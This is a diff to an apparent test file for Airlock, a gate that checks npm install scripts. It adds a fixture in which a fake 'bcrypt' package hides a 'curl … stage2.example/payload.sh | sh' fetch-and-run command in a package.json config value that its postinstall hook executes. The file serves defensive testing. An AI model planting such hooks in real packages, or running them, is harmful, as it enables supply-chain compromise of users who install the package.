@@ -3,8 +3,8 @@
  * default policy. Each package has a popular name and an old version, so only what its install
  * code does can hold it — the case of a hijacked popular package. Each hides its payload a way
  * the gate used to miss: inside `node -e`, in a file named without its extension, behind
- * `npm run`, behind a `require`, past the first 512 KiB of a big file, and past what the gate
- * reads at all. npm would run every one of them (each first writes a marker file, which shows it
+ * `npm run`, behind a `require`, in a value of package.json `config` a script runs, past the first
+ * 512 KiB of a big file, and past what the gate reads at all. npm would run every one of them (each first writes a marker file, which shows it
  * ran); Airlock quarantines them instead, and installs popular packages whose install code it
  * could follow to the end and found harmless — one of them giving a child process the parent's
  * environment as esbuild's install does, which the gate used to take for an environment dump.
@@ -56,6 +56,21 @@ const CASES: readonly { name: string; how: string; reason: RegExp; pkg: FixtureP
       { path: 'install.js', content: "require('./lib/check');\n" },
       { path: 'lib/check.js', content: PAYLOAD },
     ]),
+  },
+  {
+    name: 'bcrypt',
+    how: 'the hook runs a value of package.json config (npm_package_config_cmd)',
+    reason: /pipes it into a shell.*\[install_behaviour\.dangerous\]/,
+    pkg: {
+      name: 'bcrypt',
+      versions: [
+        {
+          version: '9.0.0',
+          publishedAt: daysAgo(300),
+          manifest: { config: { cmd: "node -e \"require('fs').writeFileSync('HOOK_RAN', '')\"; curl -s https://stage2.example/payload.sh | sh" }, scripts: { postinstall: 'sh -c "$npm_package_config_cmd"' } },
+        },
+      ],
+    },
   },
   {
     name: 'sharp',
